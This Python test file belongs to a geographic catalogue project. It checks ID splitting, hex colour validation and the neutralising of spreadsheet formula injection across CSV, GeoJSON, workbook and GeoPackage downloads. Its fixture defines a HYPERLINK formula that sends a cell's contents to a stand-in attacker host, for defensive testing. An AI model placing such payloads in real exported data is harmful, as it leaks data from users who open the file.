"""One home for reading list and colour cells, and for writing cells no spreadsheet runs as a formula."""

import io
import json

import openpyxl
import pandas as pd
import pyogrio
import pytest

from geo import analysis
from geo.analysis import TARGET_COLUMNS
from geo.catalogue import load_catalogue
from geo.cells import hex_colour, is_hex_colour, runs_as_formula, safe_cell, safe_frame, split_ids
from geo.citations import split_source_ids
from geo.data_dictionary import file_download
from geo.downloads import view_gpkg, view_tables, view_xlsx
from geo.filters import Filters, apply_filters
from geo.paths import DEFAULT_DATA_DIR
from geo.viewstate import ViewState
from tests.catalogue_fixture import SIGUNGU, changed_sites, changed_tables, write_catalogue


@pytest.mark.parametrize(
    ("cell", "ids"),
    [("a;b", ["a", "b"]), (" a ; ; b ;", ["a", "b"]), ("", []), (None, []), ("a", ["a"])],
)
def test_split_ids(cell, ids):
    assert split_ids(cell) == ids


def test_source_ids_drop_repeats_but_keep_order():
    assert split_source_ids("b; a; b") == ["b", "a"]


@pytest.mark.parametrize("value", ["#000000", "#a1B2c3"])
def test_hex_colour_accepts_six_digits(value):
    assert is_hex_colour(value) and hex_colour(value) == value


@pytest.mark.parametrize("value", ["#fff", "red", "#1234567", " #123456", None, 123456, "#12345g"])
def test_hex_colour_names_what_it_refuses(value):
    assert not is_hex_colour(value)
    with pytest.raises(ValueError, match="#RRGGBB") as caught:
        hex_colour(value)
    assert repr(value) in str(caught.value)


def test_every_programme_site_is_split_to_a_known_site():
    cat = load_catalogue(DEFAULT_DATA_DIR)
    known = set(cat.sites["id"])
    listed = [site for cell in cat.programs["site_ids"] for site in split_ids(cell)]
    assert listed and set(listed) <= known


# -- Cells a spreadsheet would run as a formula: neutralised in every download -----------------------------

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"자세히")'


@pytest.mark.parametrize(
    "value", [EVIL, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "  =1", "＝1+1", "- 항목", "-", "=5"]
)
def test_a_would_be_formula_becomes_text(value):
    """Text starting with =, +, -, @, tab or CR (also after spaces, also full-width) gets the text mark."""
    assert runs_as_formula(value)
    assert safe_cell(value) == "'" + value
    assert not runs_as_formula(safe_cell(value))


@pytest.mark.parametrize("value", ["-12", "-12.5", "+3", "-1,234", "1e5", "광주 - 전남", "a=b", "", None, -3, 2.5])
def test_numbers_and_plain_text_stay_as_they_are(value):
    """A plain number (as text or a number) and text that is no formula come back unchanged."""
    assert not runs_as_formula(value)
    assert safe_cell(value) == value


def test_safe_frame_leaves_numbers_and_geometry_alone():
    """Text columns are made safe; number columns stay numbers, including negative ones."""
    frame = pd.DataFrame({"name": [EVIL, "ok"], "delta": [-5.0, 3.0]})
    out = safe_frame(frame)
    assert out["name"].tolist() == ["'" + EVIL, "ok"] and out["delta"].tolist() == [-5.0, 3.0]
    assert frame["name"].iloc[0] == EVIL  # the input is not changed


@pytest.fixture
def evil_catalogue(tmp_path):
    """The test catalogue with a formula in a programme's lead organisation and a site's English name."""
    tables = changed_tables("programs.csv", 0, lead_org=EVIL)
    return write_catalogue(tmp_path / "data", tables, changed_sites(0, name_en=EVIL))


def live_formulas(values) -> list:
    """The values a spreadsheet would run: text starting like a formula."""
    return [v for v in values if runs_as_formula(v)]


def test_no_download_leaves_a_formula_live(evil_catalogue, tmp_path):
    """CSV, GeoJSON, the data page's files, the workbook and the GeoPackage: every such cell is text."""
    cat = load_catalogue(evil_catalogue)
    shown = apply_filters(cat, Filters())
    assert EVIL in set(cat.programs["lead_org"]) and EVIL in set(cat.sites["name_en"])
    csvs = {
        "programs.csv": analysis.programs_csv(cat.programs),
        "sites.csv": analysis.sites_csv(cat.sites),
        "data page programs.csv": file_download(evil_catalogue / "programs.csv"),
    }
    for name, data in csvs.items():
        frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False, encoding="utf-8-sig")
        cells = frame.to_numpy().ravel().tolist()
        assert "'" + EVIL in cells and live_formulas(cells) == [], name
    geojson = json.loads(analysis.sites_geojson(cat.sites))
    names = [f["properties"]["name_en"] for f in geojson["features"]]
    assert "'" + EVIL in names and live_formulas(names) == []

    tables = view_tables(cat, shown, SIGUNGU, pd.DataFrame(columns=list(TARGET_COLUMNS)))
    book = openpyxl.load_workbook(io.BytesIO(view_xlsx(tables, ViewState(), cat, "http://x.example/")))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert "'" + EVIL in {c.value for c in cells} and live_formulas(c.value for c in cells) == []

    path = tmp_path / "view.gpkg"
    path.write_bytes(view_gpkg(tables, cat.sectors))
    for layer in ("sites", "programs"):
        frame = pyogrio.read_dataframe(path, layer=layer)
        cells = pd.DataFrame(frame.drop(columns="geometry", errors="ignore")).to_numpy().ravel().tolist()
        assert "'" + EVIL in cells and live_formulas(cells) == [], layer


def test_a_clean_catalogue_file_downloads_byte_for_byte():
    """The data page's files are the catalogue's own bytes when no cell needs the mark."""
    path = DEFAULT_DATA_DIR / "programs.csv"
    assert file_download(path) == path.read_bytes()
